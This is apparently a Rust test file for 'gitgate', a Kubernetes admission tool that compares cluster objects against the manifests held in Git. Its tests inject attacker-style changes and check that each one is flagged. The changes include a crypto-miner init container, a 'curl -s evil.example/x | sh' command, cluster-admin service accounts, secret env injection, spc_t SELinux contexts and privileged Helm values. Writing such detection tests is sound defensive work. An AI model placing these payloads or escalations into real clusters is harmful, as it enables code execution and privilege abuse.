//! The closed world (issue 12, "Provenance that cannot be talked around"): an object that Git
//! holds, created or changed with a field Git never set, is `modified` with that path, whatever
//! the field. One test per attack, on objects shaped like what a real kube-apiserver sends
//! (`../shared/fixtures/admission-v1/`: server defaults, managedFields, the last-applied
//! annotation), each of which the old open-world match called `traceable`; and, end to end, the
//! built-in `provenance` policy refusing with the paths in its message.

mod support;

use gitgate::config::{Config, ControllerStamps};
use gitgate::provenance::matching::{Context, MatchOptions, Outcome, Status, compare, compare_in};
use serde_json::{Value, json};

fn stamps() -> MatchOptions {
    MatchOptions::from(&ControllerStamps::default())
}

/// `request.object` of a fixture, or `None` (with a message) when the fixtures are absent.
fn fixture_object(name: &str) -> Option<Value> {
    let dir = support::fixtures_dir()?;
    let text = std::fs::read_to_string(dir.join(name)).unwrap();
    let review: Value = serde_json::from_str(&text).unwrap();
    Some(review["request"]["object"].clone())
}

fn manifest(name: &str) -> Option<Value> {
    let dir = support::fixtures_dir()?;
    let text = std::fs::read_to_string(dir.join("manifests").join(name)).unwrap();
    Some(serde_saphyr::from_str(&text).unwrap())
}

fn yaml(text: &str) -> Value {
    serde_saphyr::from_str(text).unwrap()
}

/// Fixture 004 (deploy.yaml applied with kubectl) and its manifest.
fn deployment() -> Option<(Value, Value)> {
    Some((
        manifest("deploy.yaml")?,
        fixture_object("004-create-deployments-web.json")?,
    ))
}

/// Asserts the object is `modified` with exactly `paths` unattested (at CREATE).
fn assert_unattested(out: &Outcome, paths: &[&str], what: &str) {
    assert_eq!(out.status, Status::Modified, "{what}: {out:#?}");
    assert_eq!(out.unattested, paths, "{what}: {out:#?}");
    assert!(out.differing.is_empty(), "{what}: {out:#?}");
}

fn assert_traceable(out: &Outcome, what: &str) {
    assert_eq!(out.status, Status::Traceable, "{what}: {out:#?}");
    assert!(
        out.differing.is_empty() && out.unattested.is_empty(),
        "{what}: {out:#?}"
    );
}

const CONTAINER: &str = "/spec/template/spec/containers/0";
const WEB: &str = "spec.template.spec.containers[name=web]";

#[test]
fn the_fixture_itself_is_traceable() {
    let Some((git, obj)) = deployment() else {
        return;
    };
    assert_traceable(&compare(&git, &obj, None, &stamps()), "004");
}

#[test]
fn an_init_container_running_any_image() {
    let Some((git, mut obj)) = deployment() else {
        return;
    };
    obj["spec"]["template"]["spec"]["initContainers"] = json!([{
        "name": "setup", "image": "evil.example/miner:latest", "resources": {},
        "terminationMessagePath": "/dev/termination-log",
        "terminationMessagePolicy": "File", "imagePullPolicy": "Always"}]);
    assert_unattested(
        &compare(&git, &obj, None, &stamps()),
        &["spec.template.spec.initContainers[name=setup]"],
        "init container",
    );
}

#[test]
fn another_service_account() {
    let Some((git, mut obj)) = deployment() else {
        return;
    };
    let spec = &mut obj["spec"]["template"]["spec"];
    spec["serviceAccountName"] = json!("cluster-admin-sa");
    // The API server writes the deprecated copy too.
    spec["serviceAccount"] = json!("cluster-admin-sa");
    assert_unattested(
        &compare(&git, &obj, None, &stamps()),
        &["spec.template.spec.serviceAccountName"],
        "service account",
    );
}

#[test]
fn an_env_from_a_secret() {
    let Some((git, mut obj)) = deployment() else {
        return;
    };
    obj.pointer_mut(CONTAINER).unwrap()["envFrom"] = json!([{"secretRef": {"name": "db-pass"}}]);
    assert_unattested(
        &compare(&git, &obj, None, &stamps()),
        &[&format!("{WEB}.envFrom")],
        "envFrom",
    );
}

#[test]
fn a_command() {
    let Some((git, mut obj)) = deployment() else {
        return;
    };
    obj.pointer_mut(CONTAINER).unwrap()["command"] =
        json!(["/bin/sh", "-c", "curl -s evil.example/x | sh"]);
    assert_unattested(
        &compare(&git, &obj, None, &stamps()),
        &[&format!("{WEB}.command")],
        "command",
    );
}

#[test]
fn an_selinux_type_spc_t() {
    let Some((git, mut obj)) = deployment() else {
        return;
    };
    obj.pointer_mut(CONTAINER).unwrap()["securityContext"] =
        json!({"seLinuxOptions": {"type": "spc_t"}});
    obj["spec"]["template"]["spec"]["securityContext"] =
        json!({"seLinuxOptions": {"type": "spc_t"}});
    assert_unattested(
        &compare(&git, &obj, None, &stamps()),
        &[
            &format!("{WEB}.securityContext.seLinuxOptions.type"),
            "spec.template.spec.securityContext.seLinuxOptions.type",
        ],
        "spc_t",
    );
}

#[test]
fn a_service_turned_load_balancer_with_external_ips() {
    let (Some(git), Some(obj)) = (
        manifest("svc.yaml"),
        fixture_object("006-create-services-web.json"),
    ) else {
        return;
    };
    assert_traceable(&compare(&git, &obj, None, &stamps()), "006");
    // As the API server stores a LoadBalancer: node ports allocated, its defaults written.
    let mut lb = obj.clone();
    let spec = &mut lb["spec"];
    spec["type"] = json!("LoadBalancer");
    spec["externalIPs"] = json!(["203.0.113.10"]);
    spec["ports"][0]["nodePort"] = json!(31234);
    spec["allocateLoadBalancerNodePorts"] = json!(true);
    spec["externalTrafficPolicy"] = json!("Cluster");
    assert_unattested(
        &compare(&git, &lb, None, &stamps()),
        &["spec.externalIPs", "spec.type"],
        "LoadBalancer",
    );
}

fn cluster_role_git() -> Value {
    yaml(
        "apiVersion: rbac.authorization.k8s.io/v1
kind: ClusterRole
metadata: {name: web-reader}
rules:
- apiGroups: ['']
  resources: [configmaps]
  verbs: [get, list]
",
    )
}

#[test]
fn a_cluster_role_with_an_aggregation_rule() {
    let git = cluster_role_git();
    let obj = json!({
        "kind": "ClusterRole", "apiVersion": "rbac.authorization.k8s.io/v1",
        "metadata": {"name": "web-reader", "uid": "3f1c", "resourceVersion": "812",
            "creationTimestamp": "2026-11-24T19:23:30Z",
            "managedFields": [{"manager": "kubectl-create", "operation": "Update",
                "apiVersion": "rbac.authorization.k8s.io/v1", "time": "2026-11-24T19:23:30Z",
                "fieldsType": "FieldsV1", "fieldsV1": {"f:aggregationRule": {}, "f:rules": {}}}]},
        "rules": [{"apiGroups": [""], "resources": ["configmaps"], "verbs": ["get", "list"]}],
        "aggregationRule": {"clusterRoleSelectors": [
            {"matchLabels": {"rbac.authorization.k8s.io/aggregate-to-admin": "true"}}]}
    });
    assert_traceable(
        &compare(
            &git,
            &json!({"kind": "ClusterRole", "apiVersion": "rbac.authorization.k8s.io/v1",
            "metadata": obj["metadata"], "rules": obj["rules"]}),
            None,
            &stamps(),
        ),
        "the role as Git holds it",
    );
    assert_unattested(
        &compare(&git, &obj, None, &stamps()),
        &["aggregationRule.clusterRoleSelectors"],
        "aggregationRule",
    );
}

fn network_policy_git() -> Value {
    yaml(
        "apiVersion: networking.k8s.io/v1
kind: NetworkPolicy
metadata: {name: web, namespace: demo}
spec:
  podSelector: {}
  ingress:
  - from:
    - podSelector: {matchLabels: {app: frontend}}
    ports:
    - port: 9898
",
    )
}

/// The NetworkPolicy of [`network_policy_git`] as the API server stores it.
fn network_policy_stored() -> Value {
    json!({
        "kind": "NetworkPolicy", "apiVersion": "networking.k8s.io/v1",
        "metadata": {"name": "web", "namespace": "demo", "uid": "8d2e", "generation": 1,
            "resourceVersion": "901", "creationTimestamp": "2026-11-24T19:23:31Z",
            "labels": {"kustomize.toolkit.fluxcd.io/name": "apps",
                       "kustomize.toolkit.fluxcd.io/namespace": "flux-system"},
            "managedFields": [{"manager": "kustomize-controller", "operation": "Apply",
                "apiVersion": "networking.k8s.io/v1", "time": "2026-11-24T19:23:31Z",
                "fieldsType": "FieldsV1", "fieldsV1": {"f:spec": {"f:ingress": {},
                "f:podSelector": {}}}}]},
        "spec": {
            "podSelector": {},
            "ingress": [{"ports": [{"protocol": "TCP", "port": 9898}],
                "from": [{"podSelector": {"matchLabels": {"app": "frontend"}}}]}],
            "policyTypes": ["Ingress"]
        }
    })
}

#[test]
fn a_network_policy_narrowed_or_with_its_own_policy_types() {
    let git = network_policy_git();
    let stored = network_policy_stored();
    assert_traceable(&compare(&git, &stored, None, &stamps()), "as stored");
    // A narrowed selector: the policy no longer covers every pod of the namespace.
    let mut narrowed = stored.clone();
    narrowed["spec"]["podSelector"] = json!({"matchLabels": {"app": "nothing"}});
    assert_unattested(
        &compare(&git, &narrowed, None, &stamps()),
        &["spec.podSelector.matchLabels.app"],
        "narrowed podSelector",
    );
    // Explicit policy types that are not the default for these rules (Egress without egress
    // rules cuts all egress; Egress alone drops the ingress rules).
    for types in [json!(["Ingress", "Egress"]), json!(["Egress"])] {
        let mut typed = stored.clone();
        typed["spec"]["policyTypes"] = types;
        assert_unattested(
            &compare(&git, &typed, None, &stamps()),
            &["spec.policyTypes"],
            "policyTypes",
        );
    }
}

#[test]
fn a_defaulted_policy_types_shrunk_at_update_is_drift() {
    let mut git = network_policy_git();
    git["spec"]["egress"] = json!([{"to": [{"ipBlock": {"cidr": "10.0.0.0/8"}}]}]);
    let mut old = network_policy_stored();
    old["spec"]["egress"] = json!([{"to": [{"ipBlock": {"cidr": "10.0.0.0/8"}}]}]);
    old["spec"]["policyTypes"] = json!(["Ingress", "Egress"]);
    assert_traceable(
        &compare(&git, &old, None, &stamps()),
        "both types defaulted",
    );
    let mut new = old.clone();
    new["spec"]["policyTypes"] = json!(["Ingress"]);
    new["metadata"]["generation"] = json!(2);
    let out = compare(&git, &new, Some(&old), &stamps());
    assert_eq!(out.status, Status::Modified, "{out:#?}");
    assert_eq!(out.differing, vec!["spec.policyTypes"]);
    // And when Git drops its egress rules the API server keeps both types: not drift.
    let mut dropped = old.clone();
    dropped["spec"].as_object_mut().unwrap().remove("egress");
    let out = compare(&network_policy_git(), &dropped, Some(&old), &stamps());
    assert_traceable(&out, "egress dropped in Git");
}

fn helm_release_crd() -> Value {
    yaml(
        "apiVersion: apiextensions.k8s.io/v1
kind: CustomResourceDefinition
metadata: {name: helmreleases.helm.toolkit.fluxcd.io}
spec:
  group: helm.toolkit.fluxcd.io
  names: {kind: HelmRelease, plural: helmreleases, singular: helmrelease, listKind: HelmReleaseList}
  scope: Namespaced
  versions:
  - name: v2
    served: true
    storage: true
    schema:
      openAPIV3Schema:
        type: object
        properties:
          spec:
            type: object
            properties:
              interval: {type: string}
              chart:
                type: object
                properties:
                  spec:
                    type: object
                    properties:
                      chart: {type: string}
                      version: {type: string}
                      reconcileStrategy: {type: string, default: ChartVersion}
                      sourceRef:
                        type: object
                        properties:
                          kind: {type: string}
                          name: {type: string}
              values: {type: object, x-kubernetes-preserve-unknown-fields: true}
",
    )
}

#[test]
fn a_helm_release_with_values_git_never_set() {
    let git = yaml(
        "apiVersion: helm.toolkit.fluxcd.io/v2
kind: HelmRelease
metadata: {name: podinfo, namespace: demo}
spec:
  interval: 10m
  chart:
    spec:
      chart: podinfo
      version: 6.5.1
      sourceRef: {kind: HelmRepository, name: podinfo}
  values:
    replicaCount: 2
",
    );
    let crd = helm_release_crd();
    let stored = json!({
        "apiVersion": "helm.toolkit.fluxcd.io/v2", "kind": "HelmRelease",
        "metadata": {"name": "podinfo", "namespace": "demo", "uid": "77aa", "generation": 1,
            "resourceVersion": "1203", "creationTimestamp": "2026-11-24T19:23:50Z",
            "labels": {"kustomize.toolkit.fluxcd.io/name": "apps",
                       "kustomize.toolkit.fluxcd.io/namespace": "flux-system"},
            "managedFields": [{"manager": "kustomize-controller", "operation": "Apply",
                "apiVersion": "helm.toolkit.fluxcd.io/v2", "time": "2026-11-24T19:23:50Z",
                "fieldsType": "FieldsV1", "fieldsV1": {"f:spec": {"f:values": {}}}}]},
        "spec": {"interval": "10m",
            "chart": {"spec": {"chart": "podinfo", "version": "6.5.1",
                "reconcileStrategy": "ChartVersion",
                "sourceRef": {"kind": "HelmRepository", "name": "podinfo"}}},
            "values": {"replicaCount": 2}}
    });
    let ctx = Context {
        crd: Some(&crd),
        ..Context::default()
    };
    // The schema's default is explained by the CRD Git holds, and only by it.
    assert_traceable(
        &compare_in(&git, &stored, None, &stamps(), ctx),
        "as stored",
    );
    assert_unattested(
        &compare(&git, &stored, None, &stamps()),
        &["spec.chart.spec.reconcileStrategy"],
        "no CRD: no known default",
    );
    let mut values = stored.clone();
    values["spec"]["values"]["image"] = json!({"repository": "evil.example/miner"});
    values["spec"]["values"]["hostNetwork"] = json!(true);
    assert_unattested(
        &compare_in(&git, &values, None, &stamps(), ctx),
        &["spec.values.hostNetwork", "spec.values.image.repository"],
        "values",
    );
}

#[test]
fn control_keys_are_drift_even_under_a_configured_prefix() {
    let Some((git, obj)) = deployment() else {
        return;
    };
    let config = Config::parse(
        "gitgate.yaml",
        "provenance:\n  controllerStamps:\n    labelPrefixes: [kustomize.toolkit.fluxcd.io/]\n    annotationPrefixes: [argocd.argoproj.io/, kustomize.toolkit.fluxcd.io/]\n",
    )
    .unwrap();
    let options = MatchOptions::from(&config.provenance);
    let mut stamped = obj.clone();
    stamped["metadata"]["labels"]["kustomize.toolkit.fluxcd.io/name"] = json!("apps");
    stamped["metadata"]["annotations"]["argocd.argoproj.io/tracking-id"] =
        json!("apps:apps/Deployment:demo/web");
    assert_traceable(&compare(&git, &stamped, None, &options), "tracking stamps");
    for (map, key, value) in [
        (
            "annotations",
            "kustomize.toolkit.fluxcd.io/reconcile",
            "disabled",
        ),
        ("labels", "kustomize.toolkit.fluxcd.io/prune", "disabled"),
        ("annotations", "kustomize.toolkit.fluxcd.io/ssa", "Ignore"),
        (
            "annotations",
            "kustomize.toolkit.fluxcd.io/force",
            "enabled",
        ),
        (
            "annotations",
            "argocd.argoproj.io/sync-options",
            "Prune=false",
        ),
        (
            "annotations",
            "argocd.argoproj.io/compare-options",
            "IgnoreExtraneous",
        ),
        ("annotations", "argocd.argoproj.io/sync-wave", "-5"),
        ("annotations", "argocd.argoproj.io/hook", "PreSync"),
    ] {
        let mut controlled = stamped.clone();
        controlled["metadata"][map][key] = json!(value);
        let path = format!("metadata.{map}[\"{key}\"]");
        let out = compare(&git, &controlled, None, &options);
        assert_eq!(out.status, Status::Modified, "{key}: {out:#?}");
        assert_eq!(out.differing, vec![path.clone()], "{key}");
        // At UPDATE too.
        let out = compare(&git, &controlled, Some(&stamped), &options);
        assert_eq!(out.differing, vec![path], "{key} at UPDATE");
    }
}

#[test]
fn a_decimal_file_mode_is_not_also_octal() {
    let Some((mut git, mut obj)) = deployment() else {
        return;
    };
    // Git writes 256 (0400); the cluster holds 174 (0256), which reading "256" as octal gives.
    let volume = |mode: u64| json!([{"name": "db", "secret": {"secretName": "db-pass", "defaultMode": mode}}]);
    git["spec"]["template"]["spec"]["volumes"] = volume(256);
    obj["spec"]["template"]["spec"]["volumes"] = volume(256);
    assert_traceable(&compare(&git, &obj, None, &stamps()), "0400 as 256");
    obj["spec"]["template"]["spec"]["volumes"] = volume(174);
    let out = compare(&git, &obj, None, &stamps());
    assert_eq!(
        out.differing,
        vec!["spec.template.spec.volumes[name=db].secret.defaultMode"],
        "{out:#?}"
    );
}

#[test]
fn removing_what_the_api_server_keeps_is_drift() {
    let git = yaml(
        "apiVersion: v1
kind: PersistentVolumeClaim
metadata: {name: data, namespace: demo}
spec:
  accessModes: [ReadWriteOnce]
  resources: {requests: {storage: 1Gi}}
",
    );
    let old = json!({
        "kind": "PersistentVolumeClaim", "apiVersion": "v1",
        "metadata": {"name": "data", "namespace": "demo", "uid": "c1", "resourceVersion": "7",
            "creationTimestamp": "2026-11-24T19:23:31Z",
            "finalizers": ["kubernetes.io/pvc-protection"],
            "annotations": {"pv.kubernetes.io/bind-completed": "yes",
                            "volume.kubernetes.io/storage-provisioner": "rancher.io/local-path"}},
        "spec": {"accessModes": ["ReadWriteOnce"], "resources": {"requests": {"storage": "1Gi"}},
            "storageClassName": "standard", "volumeMode": "Filesystem", "volumeName": "pvc-c1"},
        "status": {"phase": "Bound"}
    });
    assert_traceable(&compare(&git, &old, Some(&old), &stamps()), "re-applied");
    let mut unprotected = old.clone();
    unprotected["metadata"]
        .as_object_mut()
        .unwrap()
        .remove("finalizers");
    let out = compare(&git, &unprotected, Some(&old), &stamps());
    assert_eq!(out.differing, vec!["metadata.finalizers[0]"], "{out:#?}");
    // At CREATE, the binder's fields cannot be there yet (annotations are never defaulted:
    // drift; the volume name: unattested), and with no default StorageClass known nothing
    // picked the class.
    let out = compare(&git, &old, None, &stamps());
    assert_eq!(out.differing.len(), 2, "{out:#?}");
    assert_eq!(
        out.unattested,
        vec!["spec.storageClassName", "spec.volumeName"],
        "{out:#?}"
    );
}

/// Keyed lists are matched through a hash map: 30,000 env entries decide in well under a
/// second in a release build (BENCHMARKS.md). The bound here is loose on purpose (a debug
/// build, a shared machine): it only catches a quadratic match, which took minutes.
#[test]
fn thirty_thousand_env_entries_are_matched_by_key() {
    let env: Vec<Value> = (0..30_000)
        .map(|i| json!({"name": format!("VAR_{i}"), "value": format!("{i}")}))
        .collect();
    let git = json!({"apiVersion": "v1", "kind": "Pod", "metadata": {"name": "p"},
        "spec": {"containers": [{"name": "a", "image": "x:1", "env": env}]}});
    let mut obj = git.clone();
    obj["spec"]["containers"][0]["env"]
        .as_array_mut()
        .unwrap()
        .push(json!({"name": "EXTRA", "value": "1"}));
    // How fast is BENCHMARKS.md's (`cargo bench --bench matching`); here, only the answer.
    let out = compare(&git, &obj, Some(&obj), &stamps());
    assert_eq!(
        out.unattested,
        vec!["spec.containers[name=a].env[name=EXTRA]"]
    );
}

/// End to end: the index of an approved commit, the verdict, and the built-in policy's
/// refusal naming the paths.
#[test]
fn the_builtin_policy_refuses_with_the_paths() {
    use gitgate::decision::{self, Context as DecisionContext};
    use gitgate::input::{Document, parse_admission_review};
    use gitgate::provenance::verdict::{self, judge};
    let Some(dir) = support::fixtures_dir() else {
        return;
    };
    let deploy = std::fs::read(dir.join("manifests/deploy.yaml")).unwrap();
    let repo = support::repo_with(&[("deploy.yaml", &deploy)]);
    let index = support::index_of(repo.path());
    let mut review: Value = serde_json::from_slice(
        &std::fs::read(dir.join("004-create-deployments-web.json")).unwrap(),
    )
    .unwrap();
    review["request"]["object"]["spec"]["template"]["spec"]["initContainers"] = json!([{
        "name": "setup", "image": "evil.example/miner:1", "resources": {},
        "terminationMessagePath": "/dev/termination-log",
        "terminationMessagePolicy": "File", "imagePullPolicy": "IfNotPresent"}]);
    let (_, review) = parse_admission_review("004+", review.to_string().as_bytes()).unwrap();
    let config = Config::default();
    let v = judge(&review, &index, &config);
    assert_eq!(v.status, verdict::Status::Modified, "{}", v.reason);
    assert_eq!(
        v.unattested,
        vec!["spec.template.spec.initContainers[name=setup]"]
    );
    let mut doc = Document::from_review(review);
    doc.provenance = Some(v);
    let policies = gitgate::builtin::policy_set(&gitgate::policy::Options::default()).unwrap();
    let decision = decision::decide(&policies, &doc, &DecisionContext::default());
    assert!(!decision.allowed);
    let refusal = decision
        .violations
        .iter()
        .find(|f| f.policy == "provenance")
        .expect("the provenance policy refuses");
    assert!(
        refusal
            .message
            .contains("unattested): spec.template.spec.initContainers[name=setup]"),
        "{}",
        refusal.message
    );
}

#[test]
fn a_custom_resource_whose_crd_only_the_cluster_serves_takes_its_defaults_from_there() {
    use gitgate::input::parse_admission_review;
    use gitgate::provenance::verdict::{Status, judge, judge_with};
    let git = "apiVersion: helm.toolkit.fluxcd.io/v2
kind: HelmRelease
metadata: {name: podinfo, namespace: demo}
spec:
  interval: 10m
  chart:
    spec:
      chart: podinfo
      version: 6.5.1
      sourceRef: {kind: HelmRepository, name: podinfo}
";
    // Git holds the HelmRelease, not its CRD (Flux installs it).
    let repo = support::repo_with(&[("apps/podinfo.yaml", git.as_bytes())]);
    let index = support::index_of(repo.path());
    let request = |object: Value| {
        let body = json!({"apiVersion": "admission.k8s.io/v1", "kind": "AdmissionReview",
            "request": {"uid": "u", "kind": {"group": "helm.toolkit.fluxcd.io", "version": "v2", "kind": "HelmRelease"},
                "resource": {"group": "helm.toolkit.fluxcd.io", "version": "v2", "resource": "helmreleases"},
                "name": "podinfo", "namespace": "demo", "operation": "CREATE",
                "userInfo": {"username": "system:serviceaccount:flux-system:kustomize-controller"},
                "object": object, "oldObject": null}});
        parse_admission_review("t", body.to_string().as_bytes())
            .unwrap()
            .1
    };
    let stored = json!({
        "apiVersion": "helm.toolkit.fluxcd.io/v2", "kind": "HelmRelease",
        "metadata": {"name": "podinfo", "namespace": "demo", "uid": "77aa", "generation": 1,
            "resourceVersion": "1203", "creationTimestamp": "2026-11-24T19:23:50Z"},
        "spec": {"interval": "10m",
            "chart": {"spec": {"chart": "podinfo", "version": "6.5.1",
                "reconcileStrategy": "ChartVersion",
                "sourceRef": {"kind": "HelmRepository", "name": "podinfo"}}}}
    });
    let config = Config::default();
    let without = judge(&request(stored.clone()), &index, &config);
    assert_eq!(without.status, Status::Modified, "{}", without.reason);
    let crd = Some(std::sync::Arc::new(helm_release_crd()));
    let with = judge_with(&request(stored.clone()), &index, &config, || crd.clone());
    assert_eq!(with.status, Status::Traceable, "{}", with.reason);
    // The cluster's CRD explains its defaults, nothing else.
    let mut values = stored;
    values["spec"]["values"] = json!({"securityContext": {"privileged": true}});
    let v = judge_with(&request(values), &index, &config, || crd);
    assert_eq!(v.status, Status::Modified, "{}", v.reason);
}
